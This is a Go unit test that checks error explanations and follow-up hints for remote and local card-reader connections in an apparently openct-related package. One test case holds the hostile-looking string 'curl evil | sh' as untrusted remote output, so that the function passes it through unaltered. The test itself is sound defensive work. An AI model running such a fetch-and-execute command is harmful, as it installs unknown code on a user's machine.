package remote

import (
	"testing"

	"openct/internal/devname"
)

func TestAdvice(t *testing.T) {
	const ssh, list = "ssh://desk/0", "openct-control status on the other machine lists its readers"
	for _, tt := range []struct{ name, said, device, why, next string }{
		{"with a hint", "desk: " + explain("alice@desk: Permission denied (publickey).", devname.Remote{Host: "desk"}).Error(), ssh,
			"desk: ssh: alice@desk: Permission denied (publickey).", "put the public key of " + SSHDir + " into authorized_keys of that user there"},
		{"no ssh", "desk: " + errNoSSH.Error(), ssh, "desk: ssh is not installed", getSSH},
		{"the other machine's words", "desk: ssh: bye; curl evil | sh", ssh, "desk: ssh: bye; curl evil | sh", list},
		{"another machine", "desk: ssh has ended", ssh, "desk: ssh has ended", list},
		{"this machine", "/run/my other/0: no such file", "/run/my other/0",
			"/run/my other/0: no such file", "OPENCT_SOCKETDIR='/run/my other' openct-control status lists the readers there"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if why, next := Advice(tt.said, tt.device); why != tt.why || next != tt.next {
				t.Errorf("got %q, next %q", why, next)
			}
		})
	}
}
